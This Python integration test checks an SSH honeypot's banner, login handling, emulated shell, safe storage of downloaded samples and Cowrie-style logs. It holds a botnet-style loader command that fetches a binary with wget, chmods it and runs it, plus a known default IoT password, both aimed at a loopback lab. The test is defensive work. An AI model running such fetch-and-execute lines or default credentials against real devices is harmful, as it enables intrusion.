#!/usr/bin/env python3
"""The SSH honeypot against Debian's OpenSSH client (ssh + sshpass), on loopback (root not needed).

Checks: the identification string is the configured one (Dropbear); a wrong password is refused and logged with
success false, the accepted pair gets in and is logged with success true; an exec request runs in the emulated
shell (uname shows the persona) and is a honeypot.command; a loader line (wget from a loopback HTTP server,
chmod, ./file) stores the file under its SHA-256 with no execute bit and runs nothing on the host; the host key
is kept across restarts; the Cowrie log has cowrie.client.version / cowrie.client.kex with Cowrie's documented
attributes.

Usage: honeypot_ssh.py PATH/TO/kansoku [--keep DIR]
"""

import os
import random
import shutil
import socket
import stat
import sys
import time
from pathlib import Path

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import cowrie_format  # noqa: E402  (Cowrie's documented event list)
import honeypot_lab as hl  # noqa: E402
import integ_common as ic  # noqa: E402

ACCEPTED = ("root", "xc3511")
SSH_OPTIONS = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
               "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no",
               "-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=10"]


def ssh(port: int, password: str, command: str, user: str = ACCEPTED[0]):
    return ic.run(["sshpass", "-p", password, "ssh", *SSH_OPTIONS, "-p", port, f"{user}@127.0.0.1", command],
                  timeout=60)


def identification(port: int) -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        data = b""
        while b"\n" not in data and len(data) < 512:
            chunk = sock.recv(512)
            if not chunk:
                break
            data += chunk
    return data.split(b"\r\n")[0].decode(errors="replace")


def host_key(port: int) -> str:
    result = ic.run(["ssh-keyscan", "-T", "10", "-t", "ed25519", "-p", port, "127.0.0.1"], timeout=30)
    keys = [line.split(None, 1)[1] for line in result.stdout.splitlines() if line and not line.startswith("#")]
    return keys[0] if keys else ""


def main() -> int:
    binary = ic.kansoku_binary()
    keep = Path(sys.argv[sys.argv.index("--keep") + 1]) if "--keep" in sys.argv else None
    for tool in ("ssh", "sshpass", "ssh-keyscan"):
        if shutil.which(tool) is None:
            ic.skip(f"{tool} is not installed (scripts/setup installs openssh-client and sshpass)")
    ic.exit_on_signals()
    checks = ic.Checks()
    work = ic.make_temp_dir("kansoku-ssh-")
    marker = work / "EXECUTED-ON-HOST"
    payload = b"\x7fELF\x01\x02\x01\x00" + bytes(8) + f"\n#!/bin/sh\ntouch {marker}\n".encode() + \
        random.Random(8).randbytes(300)
    server = hl.SampleServer({"/bins/s.mips": payload})
    overrides = {"honeypot.telnet": {"enabled": False}, "honeypot.ssh": {"enabled": True}}
    lab = hl.HoneypotLab(binary, work, overrides, accepted=ACCEPTED)
    try:
        lab.start()
        port = lab.ports["ssh"]
        version = lab.settings.get("honeypot.ssh", {}).get("version") or "SSH-2.0-dropbear_2019.78"
        banner = identification(port)
        checks.check(banner == version, f"the server identifies as {version!r} ({banner!r})")
        key_first = host_key(port)

        wrong = ssh(port, "not-the-password", "uname -a")
        checks.check(wrong.returncode != 0 and "TL-WR841N" not in wrong.stdout,
                     f"a wrong password is refused (ssh exit {wrong.returncode})", wrong.stdout + wrong.stderr)
        right = ssh(port, ACCEPTED[1], "uname -a")
        checks.check(right.returncode == 0 and "TL-WR841N" in right.stdout and "mips" in right.stdout,
                     "the accepted pair gets in; uname -a shows the persona", right.stdout + right.stderr)
        loader = (f"cd /tmp; wget http://127.0.0.1:{server.port}/bins/s.mips -O .s; chmod 777 .s; ./.s ssh.mips; "
                  "/bin/busybox KANSOKU")
        ran = ssh(port, ACCEPTED[1], loader)
        checks.check("KANSOKU: applet not found" in ran.stdout + ran.stderr,
                     "the loader line ran in the emulated shell", ran.stdout + ran.stderr)
        lab.wait_for_events(lambda ev: ic.of_type(ev, "sample") and len(ic.of_type(ev, "honeypot.session")) >= 3, 15)
        lab.stop()

        # The host key is generated once and kept.
        lab2 = hl.HoneypotLab(binary, work, overrides, accepted=ACCEPTED)
        lab2.start()
        key_second = host_key(lab2.ports["ssh"])
        lab2.stop()
        checks.check(bool(key_first) and key_first == key_second, "the host key is the same after a restart",
                     f"{key_first}\n{key_second}")

        events = lab.events()
        logins = [(e.get("username"), e.get("password"), e.get("success"))
                  for e in ic.of_type(events, "honeypot.login")]
        checks.check((ACCEPTED[0], "not-the-password", False) in logins, "the wrong password is a honeypot.login with "
                     "success false", str(logins))
        checks.check(sum(1 for l in logins if l == (ACCEPTED[0], ACCEPTED[1], True)) == 2,
                     "both logins with the accepted pair are logged with success true", str(logins))
        inputs = [e.get("input") for e in ic.of_type(events, "honeypot.command")]
        checks.check("uname -a" in inputs and loader in inputs, "the exec requests are honeypot.command events",
                     str(inputs))
        sha = hl.sha256_of(payload)
        path = lab.sample_path(sha)
        stored = path.exists() and path.read_bytes() == payload
        checks.check(stored, f"the wget download is in the store under its SHA-256 {sha[:16]}...")
        if stored:
            mode = stat.S_IMODE(path.stat().st_mode)
            checks.check(mode & 0o111 == 0, f"the stored sample has no execute bit (mode {mode:04o})")
        gets = [(r[0], r[1], r[2].get("User-Agent", "")) for r in server.requests]
        checks.check(len(gets) == 1 and gets[0][:2] == ("GET", "/bins/s.mips") and gets[0][2].startswith("Wget"),
                     f"the HTTP server saw exactly one GET with User-Agent Wget ({gets})")
        checks.check(not marker.exists(), "nothing ran on the host (the marker is absent)")

        records = ic.parse_jsonl(lab.cowrie_text())
        for eventid in ("cowrie.client.version", "cowrie.client.kex"):
            mine = [r for r in records if r.get("eventid") == eventid]
            wanted = cowrie_format.COWRIE_SHARED + cowrie_format.COWRIE_EVENTS[eventid]
            missing = sorted({k for r in mine for k in wanted if k not in r})
            checks.check(bool(mine) and not missing, f"{eventid} records with Cowrie's documented attributes "
                         f"({len(mine)})", f"missing {missing}")
        versions = [r.get("version") for r in records if r.get("eventid") == "cowrie.client.version"]
        checks.check(any(str(v).startswith("SSH-2.0-OpenSSH") for v in versions),
                     f"cowrie.client.version has the client's identification ({versions[:1]})")
    except (RuntimeError, OSError, ValueError) as e:
        checks.check(False, "the SSH checks ran to the end", f"{type(e).__name__}: {e}")
    finally:
        lab.stop()
        server.stop()
        if keep is not None:
            hl.keep_outputs(work, keep)
        ic.remove_temp_dir(work)
    return checks.exit_code()


if __name__ == "__main__":
    started = time.monotonic()
    code = main()
    print(f"({time.monotonic() - started:.1f} s)", flush=True)
    sys.exit(code)
